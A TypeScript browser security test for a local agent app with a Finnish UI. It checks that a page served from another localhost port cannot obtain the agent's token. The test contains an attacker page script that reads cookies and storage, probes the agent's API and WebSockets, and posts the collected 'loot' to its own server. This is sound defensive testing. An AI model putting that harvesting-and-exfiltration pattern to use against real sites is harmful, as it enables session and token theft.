/**
 * The agent's token in the browser (issue 15, point 1). The UI is open and authenticated in
 * one Chromium context; a page served from another 127.0.0.1 port, in the same context,
 * tries everything a page can: a same-origin request to its own server (which, when the
 * agent set a cookie, carried the agent's token — cookies are not isolated by port),
 * cross-origin fetches with and without credentials, a WebSocket to the agent's events and
 * plan room, and reading storage. It gets nothing usable: its server sees no cookie and no
 * token, the agent answers its requests with 401/403 and closes its sockets. Meanwhile the
 * UI keeps working over a reload, and a new tab without the token explains how to open the
 * agent's address (in Finnish) instead of showing a raw refusal.
 */
import { createServer } from 'node:http';
import type { IncomingHttpHeaders, Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AgentProcess } from '../integration/harness';
import { UiCluster, screenshot, seriousViolations } from './browser-harness';
import type { PersonPage } from './browser-harness';
import { ensureUiBuilt } from './ui-build';

let cluster: UiCluster;
let agent: AgentProcess;
let sari: PersonPage;
let attacker: { server: Server; url: string; seen: { path: string; headers: IncomingHttpHeaders; body: string }[] };

/** What the page on the other port reports it got. */
interface Loot {
  cookie: string;
  storage: string;
  fetchWithCredentials: string;
  fetchNoCors: string;
  fetchPost: string;
  eventsSocket: string;
  roomSocket: string;
}

/** The other port's page: every way a page could reach the agent, each outcome reported to its own server. */
function attackerPage(agentUrl: string): string {
  const script = `
    const agent = ${JSON.stringify(agentUrl)};
    const outcome = async (f) => { try { return await f(); } catch (e) { return 'error: ' + (e && e.name); } };
    const socket = (url) => new Promise((resolve) => {
      let ws;
      try { ws = new WebSocket(url); } catch (e) { resolve('throw: ' + e.name); return; }
      ws.onopen = () => resolve('open');
      ws.onclose = (e) => resolve('closed ' + e.code);
      setTimeout(() => resolve('timeout'), 5000);
    });
    (async () => {
      // The leak of old: a request to our own origin carries every cookie of 127.0.0.1.
      await fetch('/same-origin', { credentials: 'include' });
      const loot = {
        cookie: document.cookie,
        storage: JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage } }),
        fetchWithCredentials: await outcome(async () => { const r = await fetch(agent + '/api/profiles', { credentials: 'include' }); return r.status + ' ' + (await r.text()); }),
        fetchNoCors: await outcome(async () => { const r = await fetch(agent + '/api/status', { mode: 'no-cors', credentials: 'include' }); return r.type + ' ' + r.status + ' ' + (await r.text()); }),
        fetchPost: await outcome(async () => { const r = await fetch(agent + '/api/profiles/lock', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }); return r.type + ' ' + r.status; }),
        eventsSocket: await socket(agent.replace('http', 'ws') + '/events'),
        roomSocket: await socket(agent.replace('http', 'ws') + '/yjs/wsAAAAAAAAAAAAAAAAAAAA/plan'),
      };
      await fetch('/report', { method: 'POST', body: JSON.stringify(loot) });
    })();
  `;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Another local page</title></head><body><p>Another program's page</p><script>${script}</script></body></html>`;
}

async function startAttacker(agentUrl: string): Promise<typeof attacker> {
  const seen: (typeof attacker)['seen'] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      seen.push({ path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(attackerPage(agentUrl));
      } else {
        res.writeHead(204);
        res.end();
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { server, url: `http://127.0.0.1:${address.port}`, seen };
}

beforeAll(async () => {
  await ensureUiBuilt();
  cluster = await UiCluster.start();
  agent = await cluster.startAgent('a');
  attacker = await startAttacker(agent.api.url);
}, 300_000);

afterAll(async () => {
  await new Promise<void>((resolve) => attacker?.server.close(() => resolve()));
  await cluster?.close();
});

describe('the agent token in Chromium', () => {
  it('the UI opened from the #token address authenticates, drops the token from the address and survives a reload', async () => {
    sari = await cluster.openPage('sari', agent);
    const page = sari.page;
    await page.getByRole('heading', { name: 'Tervetuloa Yhteispöytään' }).waitFor();
    expect(page.url()).not.toContain(agent.api.token);
    expect((await sari.context.cookies()).map((c) => c.name)).toEqual([]);
    await page.reload();
    await page.getByRole('heading', { name: 'Tervetuloa Yhteispöytään' }).waitFor();
    expect(sari.complaints).toEqual([]);
  }, 120_000);

  it('a page from another 127.0.0.1 port in the same browser gets no cookie, no token and no answer', async () => {
    const page = await sari.context.newPage();
    await page.goto(attacker.url);
    await expect.poll(() => attacker.seen.some((s) => s.path === '/report'), { timeout: 30_000 }).toBe(true);
    const report = attacker.seen.find((s) => s.path === '/report');
    const loot = JSON.parse(report?.body ?? '{}') as Loot;

    // Its own server saw no cookie, and nothing it saw holds the token.
    for (const request of attacker.seen) expect(request.headers.cookie, request.path).toBeUndefined();
    expect(JSON.stringify(attacker.seen)).not.toContain(agent.api.token);
    expect(loot.cookie).toBe('');
    expect(loot.storage).not.toContain(agent.api.token);
    // The agent's answers are not readable or were refused; its sockets never opened.
    expect(loot.fetchWithCredentials).toBe('error: TypeError');
    // (an opaque answer or, with the agent's cross-origin resource policy, none at all)
    expect(loot.fetchNoCors).toMatch(/^(error: TypeError|opaque 0 )$/);
    expect(loot.fetchPost).toMatch(/^(error: TypeError|opaque 0)$/);
    expect(loot.eventsSocket).toMatch(/^closed /);
    expect(loot.roomSocket).toMatch(/^closed /);
    await page.close();

    // Whatever headers the other page's requests carried, replayed by a program, open nothing.
    for (const request of attacker.seen) {
      const replay = await fetch(`${agent.api.url}/api/profiles`, { headers: { ...(request.headers.cookie === undefined ? {} : { cookie: request.headers.cookie }) } });
      expect(replay.status).toBe(401);
    }
    // The UI's tab is still signed in and still works.
    expect((await sari.page.evaluate(async () => (await fetch('/api/status', { headers: { authorization: `Bearer ${sessionStorage.getItem('yhteispoyta:agent-token') ?? ''}` } })).status))).toBe(200);
  }, 120_000);

  it('a new tab without the token explains, in Finnish, how to open the agent', async () => {
    const page = await sari.context.newPage();
    await page.goto(`${agent.api.url}/`);
    await page.getByRole('heading', { name: 'Avaa Yhteispöytä ohjelman antamasta osoitteesta' }).waitFor();
    expect(await page.getByText('Tällä välilehdellä ei ole tämän tietokoneen Yhteispöytä-ohjelman avainta').count()).toBe(1);
    expect(await page.content()).not.toContain('unauthorized');
    expect(await seriousViolations(page)).toEqual([]);
    await page.setViewportSize({ width: 390, height: 800 });
    await screenshot(page, 'token-01-new-tab-390');
    await page.close();
  }, 120_000);
});
